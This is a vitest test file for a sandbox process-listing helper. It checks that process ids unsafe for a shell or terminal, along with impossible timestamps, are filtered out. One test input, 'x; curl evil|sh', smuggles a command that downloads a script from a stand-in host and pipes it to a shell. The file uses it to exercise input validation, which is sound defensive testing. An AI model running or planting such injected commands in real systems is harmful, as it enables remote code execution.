import { createClient, createRouterTransport } from '@connectrpc/connect';
import { ProcessService } from '@soulbox/contract/process-v1';
import { expect, test } from 'vitest';
import { getProcess, listProcesses } from './find-process.ts';

test('processes with ids for a shell, and with times that no calendar has, are left out', async () => {
  const ids = ['cli-1', 'x; curl evil|sh', 'a\x1b[2J', '', 'a'.repeat(65), 'late'];
  const processes = ids.map((id) => ({ id, pid: 7, startedAtMs: id === 'late' ? 2n ** 62n : 1n }));
  const transport = createRouterTransport(({ service }) => {
    service(ProcessService, { list: () => ({ processes }) });
  });
  const sandbox = { sandboxId: 'i1', client: createClient(ProcessService, transport) };
  expect((await listProcesses(sandbox)).map(({ id }) => id)).toEqual(['cli-1']);
  expect((await getProcess(sandbox, '7')).id).toBe('cli-1');
  await expect(getProcess(sandbox, 'x; curl evil|sh')).rejects.toMatchObject({ reason: 'process_not_found' });
});
